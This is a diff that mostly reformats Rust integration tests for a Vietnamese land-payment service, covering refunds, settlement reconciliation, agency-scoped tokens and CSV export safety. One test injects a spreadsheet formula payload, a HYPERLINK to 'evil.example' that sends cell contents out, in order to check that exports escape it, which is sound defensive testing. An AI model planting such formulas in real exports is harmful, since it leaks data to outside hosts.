@@ -5,7 +5,9 @@
 use landpay::auth::Role;
 use serde_json::{json, Value};
 
-use crate::helpers::{expect_json, expect_problem, notice_body, spawn_app, spawn_app_with, TestApp};
+use crate::helpers::{
+    expect_json, expect_problem, notice_body, spawn_app, spawn_app_with, TestApp,
+};
 
 const HEADER: &str = "gateway_txn_no,txn_ref,amount,status,paid_at,bank_code,fee\n";
 
@@ -66,8 +68,13 @@ fn row<'a>(report: &'a Value, key: &str, value: &str) -> &'a Value {
 }
 
 async fn refund(app: &TestApp, pid: &str, key: &str, body: Value) -> reqwest::Response {
-    app.post_idem(&format!("/v1/payments/{pid}/refunds"), &app.finance(), key, &body)
-        .await
+    app.post_idem(
+        &format!("/v1/payments/{pid}/refunds"),
+        &app.finance(),
+        key,
+        &body,
+    )
+    .await
 }
 
 #[tokio::test]
@@ -76,7 +83,11 @@ async fn refunding_a_duplicate_payment_leaves_the_order_paid_and_the_budget_whol
     let mut body = notice_body("N-DUP", "HN-VPDKDD", 140_000_000, "2099-01-01");
     body["lines"].as_array_mut().unwrap().push(json!({"chapter": "757", "sub_item": "1006",
         "name": "Thuế thu nhập cá nhân từ chuyển nhượng bất động sản", "amount": 560_000_000, "due_date": "2099-01-01"}));
-    let notice = expect_json(app.post_json("/v1/notices", &app.portal(), &body).await, 201).await;
+    let notice = expect_json(
+        app.post_json("/v1/notices", &app.portal(), &body).await,
+        201,
+    )
+    .await;
     let nid = notice["id"].as_str().unwrap();
     let p = app.payment_for(&json!([{"notice_id": nid}])).await;
     let pid = p["id"].as_str().unwrap();
@@ -91,21 +102,38 @@ async fn refunding_a_duplicate_payment_leaves_the_order_paid_and_the_budget_whol
     assert_eq!(s["flags"][0]["status"], "open");
     let dup = second["id"].as_str().unwrap();
 
-    let q = |g: &str| format!("/v1/reports/collections?from={t}&to={t}&group_by={g}", t = today(&app));
+    let q = |g: &str| {
+        format!(
+            "/v1/reports/collections?from={t}&to={t}&group_by={g}",
+            t = today(&app)
+        )
+    };
     let by_gw = expect_json(app.get(&q("gateway"), &app.finance()).await, 200).await;
     assert_eq!(row(&by_gw, "gateway", "vnpay")["amount"], 700_000_000);
     assert_eq!(row(&by_gw, "gateway", "vnpay")["unapplied"], 700_000_000);
 
     // Two attempts hold money: the refund must say which.
     let p = expect_problem(
-        refund(&app, pid, "r0", json!({"amount": 700_000_000, "reason": "Nộp trùng"})).await,
+        refund(
+            &app,
+            pid,
+            "r0",
+            json!({"amount": 700_000_000, "reason": "Nộp trùng"}),
+        )
+        .await,
         422,
         "validation_failed",
     )
     .await;
     assert_eq!(p["errors"][0]["field"], "attempt_id");
     let p = expect_problem(
-        refund(&app, pid, "r1", json!({"amount": 700_000_001, "reason": "Nộp trùng", "attempt_id": dup})).await,
+        refund(
+            &app,
+            pid,
+            "r1",
+            json!({"amount": 700_000_001, "reason": "Nộp trùng", "attempt_id": dup}),
+        )
+        .await,
         422,
         "validation_failed",
     )
@@ -113,7 +141,13 @@ async fn refunding_a_duplicate_payment_leaves_the_order_paid_and_the_budget_whol
     assert_eq!(p["errors"][0]["field"], "amount");
 
     let r = expect_json(
-        refund(&app, pid, "r2", json!({"amount": 700_000_000, "reason": "Nộp trùng", "attempt_id": dup})).await,
+        refund(
+            &app,
+            pid,
+            "r2",
+            json!({"amount": 700_000_000, "reason": "Nộp trùng", "attempt_id": dup}),
+        )
+        .await,
         201,
     )
     .await;
@@ -121,21 +155,38 @@ async fn refunding_a_duplicate_payment_leaves_the_order_paid_and_the_budget_whol
     assert_eq!(r["attempt_id"], dup);
 
     let s = app.payment_status(pid).await;
-    assert_eq!(s["status"], "paid", "the duplicate's refund leaves the order paid");
+    assert_eq!(
+        s["status"], "paid",
+        "the duplicate's refund leaves the order paid"
+    );
     assert_eq!(s["refunded_amount"], 0);
     assert_eq!(s["flags"][0]["status"], "resolved");
     assert_eq!(s["flags"][0]["note"], "Nộp trùng");
-    let n = expect_json(app.get(&format!("/v1/notices/{nid}"), &app.portal()).await, 200).await;
+    let n = expect_json(
+        app.get(&format!("/v1/notices/{nid}"), &app.portal()).await,
+        200,
+    )
+    .await;
     assert_eq!(n["status"], "paid");
-    let events = expect_json(app.get(&format!("/v1/payments/{pid}/events"), &app.admin()).await, 200).await;
+    let events = expect_json(
+        app.get(&format!("/v1/payments/{pid}/events"), &app.admin())
+            .await,
+        200,
+    )
+    .await;
     let events = events["data"].as_array().unwrap();
-    let refunded = events.iter().find(|e| e["type"] == "payment.refunded").unwrap();
+    let refunded = events
+        .iter()
+        .find(|e| e["type"] == "payment.refunded")
+        .unwrap();
     assert_eq!(
         refunded["data"]["refund"],
         json!({"id": r["id"], "attempt_id": dup, "amount": 700_000_000, "of_unapplied": true})
     );
     assert_eq!(refunded["data"]["payment"]["status"], "paid");
-    assert!(events.iter().any(|e| e["type"] == "flag.resolved" && e["data"]["note"] == "Nộp trùng"));
+    assert!(events
+        .iter()
+        .any(|e| e["type"] == "flag.resolved" && e["data"]["note"] == "Nộp trùng"));
 
     let by_sub = expect_json(app.get(&q("sub_item"), &app.finance()).await, 200).await;
     assert_eq!(row(&by_sub, "sub_item", "1006")["amount"], 560_000_000);
@@ -153,15 +204,29 @@ async fn refunding_a_duplicate_payment_leaves_the_order_paid_and_the_budget_whol
     // Now only the paying attempt holds money: no attempt_id needed. A full refund unpays the
     // notice lines, so that they can be paid again.
     let r = expect_json(
-        refund(&app, pid, "r3", json!({"amount": 700_000_000, "reason": "Hồ sơ bị từ chối"})).await,
+        refund(
+            &app,
+            pid,
+            "r3",
+            json!({"amount": 700_000_000, "reason": "Hồ sơ bị từ chối"}),
+        )
+        .await,
         201,
     )
     .await;
     assert_eq!(r["attempt_id"], first["id"]);
     assert_eq!(app.payment_status(pid).await["status"], "refunded");
-    let n = expect_json(app.get(&format!("/v1/notices/{nid}"), &app.portal()).await, 200).await;
+    let n = expect_json(
+        app.get(&format!("/v1/notices/{nid}"), &app.portal()).await,
+        200,
+    )
+    .await;
     assert_eq!(n["status"], "unpaid");
-    assert!(n["lines"].as_array().unwrap().iter().all(|l| l["status"] == "unpaid"));
+    assert!(n["lines"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .all(|l| l["status"] == "unpaid"));
     let by_sub = expect_json(app.get(&q("sub_item"), &app.finance()).await, 200).await;
     assert_eq!(row(&by_sub, "sub_item", "1006")["amount"], 0);
     let again = app.payment_for(&json!([{"notice_id": nid}])).await;
@@ -215,7 +280,12 @@ async fn a_late_payment_settled_the_next_day_is_matched_and_closes_the_first_day
     assert_eq!(next["summary"]["missing_in_ledger"], 0);
     assert_eq!(next["items"], json!([]));
     let d_id = day_d["id"].as_str().unwrap();
-    let d = expect_json(app.get(&format!("/v1/reconciliations/{d_id}"), &app.finance()).await, 200).await;
+    let d = expect_json(
+        app.get(&format!("/v1/reconciliations/{d_id}"), &app.finance())
+            .await,
+        200,
+    )
+    .await;
     assert_eq!(d["items"][0]["status"], "resolved");
     assert_eq!(d["items"][0]["resolved_by"], next["id"]);
     assert_eq!(d["items"][0]["payment_id"], pid.as_str());
@@ -247,8 +317,18 @@ async fn a_gateway_cutoff_puts_late_money_in_the_next_settlement_day() {
     )
     .await;
     assert_eq!(d["summary"]["matched"], 1);
-    assert_eq!(d["summary"]["missing_in_statement"], 0, "22:50 belongs to the 21st: {d}");
-    let next = post_csv(&app, "vnpay", "2026-11-21", &app.finance(), HEADER.to_owned()).await;
+    assert_eq!(
+        d["summary"]["missing_in_statement"], 0,
+        "22:50 belongs to the 21st: {d}"
+    );
+    let next = post_csv(
+        &app,
+        "vnpay",
+        "2026-11-21",
+        &app.finance(),
+        HEADER.to_owned(),
+    )
+    .await;
     assert_eq!(next["summary"]["missing_in_statement"], 1);
     assert_eq!(next["items"][0]["txn_ref"], late.as_str());
     assert!(landpay::config::SettlementCutoff::parse("25:00").is_err());
@@ -280,12 +360,19 @@ async fn a_short_bank_transfer_is_recorded_flagged_and_leaves_the_order_unpaid()
     assert_eq!(item["statement_amount"], 170_000_000);
     let s = app.payment_status(pid).await;
     assert_ne!(s["status"], "paid");
-    assert_ne!(s["status"], "processing", "no attempt is in flight any more");
+    assert_ne!(
+        s["status"], "processing",
+        "no attempt is in flight any more"
+    );
     assert_eq!(s["flags"][0]["flag"], "amount_mismatch");
     assert_eq!(s["flags"][0]["status"], "open");
     assert_eq!(s["attempts"][0]["paid_amount"], 170_000_000);
     let flags = expect_json(app.get("/v1/flags?status=open", &app.finance()).await, 200).await;
-    assert!(flags["data"].as_array().unwrap().iter().any(|f| f["payment_id"] == pid));
+    assert!(flags["data"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|f| f["payment_id"] == pid));
     // The money is held, unapplied, until it is refunded; refunding it closes the flag.
     let t = "2026-11-20";
     let q = format!("/v1/reports/collections?from={t}&to={t}&group_by=gateway");
@@ -293,7 +380,13 @@ async fn a_short_bank_transfer_is_recorded_flagged_and_leaves_the_order_unpaid()
     assert_eq!(row(&by_gw, "gateway", "vietqr")["unapplied"], 170_000_000);
     assert_eq!(row(&by_gw, "gateway", "vietqr")["amount"], 0);
     let r = expect_json(
-        refund(&app, pid, "rq", json!({"amount": 170_000_000, "reason": "Chuyển thiếu"})).await,
+        refund(
+            &app,
+            pid,
+            "rq",
+            json!({"amount": 170_000_000, "reason": "Chuyển thiếu"}),
+        )
+        .await,
         201,
     )
     .await;
@@ -310,7 +403,10 @@ async fn a_short_bank_transfer_is_recorded_flagged_and_leaves_the_order_unpaid()
     )
     .await;
     assert_eq!(again["summary"]["matched"], 1);
-    assert_eq!(app.payment_status(pid).await["attempts"][0]["paid_amount"], 170_000_000);
+    assert_eq!(
+        app.payment_status(pid).await["attempts"][0]["paid_amount"],
+        170_000_000
+    );
 }
 
 #[tokio::test]
@@ -328,8 +424,11 @@ async fn totals_that_do_not_fit_are_refused_naming_the_field() {
     assert_eq!(p["errors"][0]["field"], "lines");
     // Nothing was stored.
     let listed = expect_json(
-        app.get("/v1/notices?dossier_code=000.00.12.H26-N-HUGE", &app.portal())
-            .await,
+        app.get(
+            "/v1/notices?dossier_code=000.00.12.H26-N-HUGE",
+            &app.portal(),
+        )
+        .await,
         200,
     )
     .await;
@@ -340,7 +439,10 @@ async fn totals_that_do_not_fit_are_refused_naming_the_field() {
         m = i64::MAX
     );
     let res = app
-        .request(reqwest::Method::POST, "/v1/reconciliations?gateway=vnpay&statement_date=2026-11-20")
+        .request(
+            reqwest::Method::POST,
+            "/v1/reconciliations?gateway=vnpay&statement_date=2026-11-20",
+        )
         .bearer_auth(app.finance())
         .header("content-type", "text/csv")
         .body(file)
@@ -359,10 +461,17 @@ async fn an_agency_bound_finance_token_sees_and_moves_only_its_agency() {
     // One VietQR order of each agency.
     let a_pay = app.payment(1_000_000).await;
     let a_id = a_pay["id"].as_str().unwrap();
-    let a_ref = app.attempt(a_id, "vietqr").await["qr"]["reference"].as_str().unwrap().to_owned();
+    let a_ref = app.attempt(a_id, "vietqr").await["qr"]["reference"]
+        .as_str()
+        .unwrap()
+        .to_owned();
     let notice = expect_json(
-        app.post_json("/v1/notices", &app.portal(), &notice_body("N-HCM", "HCM-VPDK", 2_000_000, "2099-01-01"))
-            .await,
+        app.post_json(
+            "/v1/notices",
+            &app.portal(),
+            &notice_body("N-HCM", "HCM-VPDK", 2_000_000, "2099-01-01"),
+        )
+        .await,
         201,
     )
     .await;
@@ -370,9 +479,17 @@ async fn an_agency_bound_finance_token_sees_and_moves_only_its_agency() {
         "agency_code": "HCM-VPDK", "dossier_code": "000.00.79.H29-1", "items": [{"notice_id": notice["id"]}],
         "payer": {"name": "Trần Thị B"}, "return_url": "https://dichvucong.example.gov.vn/hoso/2", "locale": "vi"
     });
-    let b_pay = expect_json(app.post_idem("/v1/payments", &app.portal(), "b-pay", &b_body).await, 201).await;
+    let b_pay = expect_json(
+        app.post_idem("/v1/payments", &app.portal(), "b-pay", &b_body)
+            .await,
+        201,
+    )
+    .await;
     let b_id = b_pay["id"].as_str().unwrap();
-    let b_ref = app.attempt(b_id, "vietqr").await["qr"]["reference"].as_str().unwrap().to_owned();
+    let b_ref = app.attempt(b_id, "vietqr").await["qr"]["reference"]
+        .as_str()
+        .unwrap()
+        .to_owned();
 
     let file = format!(
         "{HEADER}FT1,{a_ref},1000000,success,2026-11-20T09:00:00+07:00,VCB,0\nFT2,{b_ref},2000000,success,2026-11-20T09:30:00+07:00,VCB,0\n"
@@ -383,16 +500,44 @@ async fn an_agency_bound_finance_token_sees_and_moves_only_its_agency() {
     assert_eq!(run["summary"]["other_agency"], 1);
     assert_eq!(run["items"][0]["kind"], "other_agency");
     assert_eq!(run["items"][0]["txn_ref"], b_ref.as_str());
-    assert_eq!(run["items"][0]["payment_id"], Value::Null, "another agency's payment is not named");
+    assert_eq!(
+        run["items"][0]["payment_id"],
+        Value::Null,
+        "another agency's payment is not named"
+    );
     assert_eq!(app.payment_status(a_id).await["status"], "paid");
-    assert_eq!(app.payment_status(b_id).await["status"], "processing", "B's order did not move");
+    assert_eq!(
+        app.payment_status(b_id).await["status"],
+        "processing",
+        "B's order did not move"
+    );
 
     // Only that agency, or an unbound token, reads the run.
     let id = run["id"].as_str().unwrap();
-    expect_problem(app.get(&format!("/v1/reconciliations/{id}"), &hcm).await, 404, "not_found").await;
-    expect_problem(app.get(&format!("/v1/reconciliations/{id}/items"), &hcm).await, 404, "not_found").await;
-    expect_json(app.get(&format!("/v1/reconciliations/{id}"), &hn).await, 200).await;
-    expect_json(app.get(&format!("/v1/reconciliations/{id}"), &app.finance()).await, 200).await;
+    expect_problem(
+        app.get(&format!("/v1/reconciliations/{id}"), &hcm).await,
+        404,
+        "not_found",
+    )
+    .await;
+    expect_problem(
+        app.get(&format!("/v1/reconciliations/{id}/items"), &hcm)
+            .await,
+        404,
+        "not_found",
+    )
+    .await;
+    expect_json(
+        app.get(&format!("/v1/reconciliations/{id}"), &hn).await,
+        200,
+    )
+    .await;
+    expect_json(
+        app.get(&format!("/v1/reconciliations/{id}"), &app.finance())
+            .await,
+        200,
+    )
+    .await;
     // An unbound run is not an agency's to read.
     let unbound = post_csv(
         &app,
@@ -403,7 +548,12 @@ async fn an_agency_bound_finance_token_sees_and_moves_only_its_agency() {
     )
     .await;
     let uid = unbound["id"].as_str().unwrap();
-    expect_problem(app.get(&format!("/v1/reconciliations/{uid}"), &hn).await, 404, "not_found").await;
+    expect_problem(
+        app.get(&format!("/v1/reconciliations/{uid}"), &hn).await,
+        404,
+        "not_found",
+    )
+    .await;
 
     // HCM's own run of the same day is its own, and does not supersede HN's.
     let b_run = post_csv(
@@ -416,7 +566,11 @@ async fn an_agency_bound_finance_token_sees_and_moves_only_its_agency() {
     .await;
     assert_eq!(b_run["summary"]["matched"], 1);
     assert_eq!(app.payment_status(b_id).await["status"], "paid");
-    let still = expect_json(app.get(&format!("/v1/reconciliations/{id}"), &hn).await, 200).await;
+    let still = expect_json(
+        app.get(&format!("/v1/reconciliations/{id}"), &hn).await,
+        200,
+    )
+    .await;
     assert_eq!(still["status"], "current");
 
     // Flags and collections of a bound token show its agency only.
@@ -436,7 +590,13 @@ async fn an_agency_bound_finance_token_sees_and_moves_only_its_agency() {
         .send()
         .await
         .unwrap();
-    let cookie = res.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_owned();
+    let cookie = res.headers()["set-cookie"]
+        .to_str()
+        .unwrap()
+        .split(';')
+        .next()
+        .unwrap()
+        .to_owned();
     let html = app
         .client
         .get(format!("{}/finance", app.address))
@@ -447,7 +607,10 @@ async fn an_agency_bound_finance_token_sees_and_moves_only_its_agency() {
         .text()
         .await
         .unwrap();
-    assert!(!html.contains("UNBOUNDREF"), "an unbound run's findings are not HN's");
+    assert!(
+        !html.contains("UNBOUNDREF"),
+        "an unbound run's findings are not HN's"
+    );
 }
 
 #[tokio::test]
@@ -455,8 +618,12 @@ async fn csv_exports_never_carry_a_live_formula() {
     let app = spawn_app().await;
     let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
     let notice = expect_json(
-        app.post_json("/v1/notices", &app.portal(), &notice_body("N-EVIL", evil, 1_000_000, "2099-01-01"))
-            .await,
+        app.post_json(
+            "/v1/notices",
+            &app.portal(),
+            &notice_body("N-EVIL", evil, 1_000_000, "2099-01-01"),
+        )
+        .await,
         201,
     )
     .await;
@@ -464,11 +631,19 @@ async fn csv_exports_never_carry_a_live_formula() {
         "agency_code": evil, "dossier_code": "000.00.12.H26-EVIL", "items": [{"notice_id": notice["id"]}],
         "payer": {"name": "Nguyễn Văn A"}, "return_url": "https://dichvucong.example.gov.vn/hoso/3", "locale": "vi"
     });
-    let p = expect_json(app.post_idem("/v1/payments", &app.portal(), "evil", &body).await, 201).await;
+    let p = expect_json(
+        app.post_idem("/v1/payments", &app.portal(), "evil", &body)
+            .await,
+        201,
+    )
+    .await;
     let a = app.attempt(p["id"].as_str().unwrap(), "vnpay").await;
     assert_eq!(
-        app.ipn(&app.ipn_params(a["reference"].as_str().unwrap(), 1_000_000, "00"), &app.vnpay_secret())
-            .await["RspCode"],
+        app.ipn(
+            &app.ipn_params(a["reference"].as_str().unwrap(), 1_000_000, "00"),
+            &app.vnpay_secret()
+        )
+        .await["RspCode"],
         "00"
     );
     let csv = get_csv(
@@ -494,9 +669,18 @@ async fn csv_exports_never_carry_a_live_formula() {
     let id = run["id"].as_str().unwrap();
     let csv = get_csv(&app, &format!("/v1/reconciliations/{id}"), &app.finance()).await;
     let lines: Vec<&str> = csv.lines().collect();
-    assert!(lines.contains(&"missing_in_ledger,'@SUM(1+1),'=1+2,,,5,,success,2,open,"), "{csv}");
-    assert!(lines.contains(&"missing_in_ledger,'-2+3,7,,,6,,success,3,open,"), "{csv}");
-    assert!(lines.contains(&"missing_in_ledger,'+123,8,,,7,,success,4,open,"), "{csv}");
+    assert!(
+        lines.contains(&"missing_in_ledger,'@SUM(1+1),'=1+2,,,5,,success,2,open,"),
+        "{csv}"
+    );
+    assert!(
+        lines.contains(&"missing_in_ledger,'-2+3,7,,,6,,success,3,open,"),
+        "{csv}"
+    );
+    assert!(
+        lines.contains(&"missing_in_ledger,'+123,8,,,7,,success,4,open,"),
+        "{csv}"
+    );
     // The ledger's own money row stays a plain integer.
     assert!(csv.contains(",1000000,,success,,,open,"), "{csv}");
 }
